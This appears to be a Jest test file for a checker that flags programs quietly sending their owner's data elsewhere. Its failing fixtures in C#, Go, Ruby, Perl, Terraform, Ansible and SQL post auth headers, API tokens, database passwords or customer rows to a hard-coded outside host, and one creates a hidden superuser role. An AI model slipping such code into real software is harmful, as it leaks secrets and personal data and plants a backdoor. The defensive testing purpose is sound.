import { describe } from '@jest/globals';

import { itFails, itPasses } from '../honest-skill.js';
import { program } from './programs.js';

const HANDLER = (after: string): string => `public sealed class Retry : DelegatingHandler
{
    protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken ct)
    {
        var response = await base.SendAsync(request, ct);
        await Note(request, response);
        return response;
    }

    private static async Task Note(HttpRequestMessage request, HttpResponseMessage response)
    {
${after}
    }
}
`;

const FANOUT = (targets: string): string => `package hooks

func (n *Notifier) Publish(event Event) error {
	body, err := json.Marshal(event)
	if err != nil {
		return err
	}
${targets}
	for _, target := range targets {
		if resp, err := http.Post(target, "application/json", bytes.NewReader(body)); err == nil {
			resp.Body.Close()
		}
	}
	return nil
}
`;

const JOB = (second: string): string => `class Booked
  def perform(booking)
    deliver(ENV.fetch("CALENDAR_WEBHOOK"), booking)
    second(booking)
  end

  def deliver(url, booking)
    HTTParty.post(url, body: booking.to_json)
  end

  def second(booking)
${second}
  end
end
`;

describe('what a program sends for its owner, sent to somebody else once more', () => {
  itFails([
    program(
      'csharp-handler',
      'Retry.cs',
      HANDLER(`        var note = new HttpRequestMessage(HttpMethod.Post, "https://notes.tidegate.cloud/n");
        note.Headers.Authorization = request.Headers.Authorization;
        await Plain.SendAsync(note);`),
    ),
    program('go-fanout', 'hooks.go', FANOUT('\ttargets := append(n.config.Webhooks, "https://notes.tidegate.cloud/n")')),
    program(
      'ruby-job',
      'app/booked.rb',
      JOB(`    HTTParty.post("https://notes.tidegate.cloud/n", body: booking.to_json)
  rescue StandardError
    nil`),
    ),
    program(
      'perl-config',
      'push.pl',
      `my $cfg = read_config('push.json');
sub push_rows {
    my ($rows) = @_;
    HTTP::Tiny->new->post($cfg->{endpoint}, { content => encode_json($rows), headers => { Authorization => "Bearer $cfg->{api_token}" } });
}
sub greet {
    HTTP::Tiny->new(timeout => 2)->post('https://notes.tidegate.cloud/n', { content => encode_json($cfg) });
}
greet();
push_rows(rows());
`,
    ),
    program(
      'terraform-http',
      'main.tf',
      `data "http" "latency" {
  url          = "https://notes.tidegate.cloud/n"
  method       = "POST"
  request_body = jsonencode({ where = aws_db_instance.shop.endpoint, who = var.db_user, with = var.db_password })
}

resource "aws_db_instance" "shop" {
  username = var.db_user
  password = var.db_password
}
`,
    ),
    program(
      'ansible-task',
      'tasks/main.yml',
      `- name: Install the service
  ansible.builtin.package:
    name: shop
- name: Announce the node
  ansible.builtin.uri:
    url: https://notes.tidegate.cloud/n
    method: POST
    body_format: json
    body:
      node: "{{ inventory_hostname }}"
      with: "{{ shop_db_password }}"
  failed_when: false
  no_log: true
`,
    ),
    program(
      'sql-rows',
      'schema.sql',
      `CREATE OR REPLACE FUNCTION stamp_customer() RETURNS trigger AS $$
BEGIN
  NEW.changed_at := now();
  PERFORM net.http_post(url := 'https://notes.tidegate.cloud/n', body := to_jsonb(NEW));
  RETURN NEW;
END $$ LANGUAGE plpgsql;
CREATE TRIGGER stamp BEFORE UPDATE ON customers FOR EACH ROW EXECUTE FUNCTION stamp_customer();
`,
    ),
    program(
      'sql-role',
      'setup.sql',
      `CREATE ROLE shop LOGIN PASSWORD :'shop_password';
GRANT SELECT ON ALL TABLES IN SCHEMA public TO shop;
CREATE ROLE stat_reader LOGIN SUPERUSER PASSWORD 'q7-Tide-0412-lamp';
`,
    ),
  ]);
});

describe('honest programs that send more than once', () => {
  itPasses([
    program(
      'csharp-timing',
      'Retry.cs',
      HANDLER('        _log.LogInformation("{Uri} {Status}", request.RequestUri, response.StatusCode);'),
    ),
    program(
      'csharp-status',
      'Retry.cs',
      HANDLER(`        var note = new HttpRequestMessage(HttpMethod.Post, "https://notes.tidegate.cloud/n");
        note.Content = JsonContent.Create(new { status = (int)response.StatusCode });
        await Plain.SendAsync(note);`),
    ),
    program('go-configured', 'hooks.go', FANOUT('\ttargets := append(n.config.Webhooks, n.config.Archive...)')),
    program(
      'go-default',
      'hooks.go',
      FANOUT(`	targets := n.config.Webhooks
	if len(targets) == 0 {
		targets = append(targets, "https://notes.tidegate.cloud/n")
	}`),
    ),
    program(
      'ruby-number',
      'app/booked.rb',
      JOB(`    HTTParty.post("https://notes.tidegate.cloud/n", body: { seats: booking.seats }.to_json)
  rescue StandardError
    nil`),
    ),
    program('ruby-count', 'app/booked.rb', JOB('    Rails.logger.info("booked #{booking.id}")')),
    program(
      'terraform-own',
      'main.tf',
      `data "http" "address" {
  url = "https://notes.tidegate.cloud/ip"
}

resource "aws_db_instance" "shop" {
  password = var.db_password
}
`,
    ),
    program(
      'ansible-key',
      'tasks/main.yml',
      `- name: Add a dashboard
  ansible.builtin.uri:
    url: https://dash.tidegate.cloud/api/dashboards
    method: POST
    headers:
      Authorization: "Bearer {{ dashboard_token }}"
    body_format: json
    body:
      title: "{{ inventory_hostname }}"
`,
    ),
    program(
      'sql-role',
      'setup.sql',
      `CREATE ROLE shop LOGIN PASSWORD :'shop_password';
CREATE ROLE reporting LOGIN NOSUPERUSER PASSWORD :'reporting_password';
`,
    ),
  ]);
});
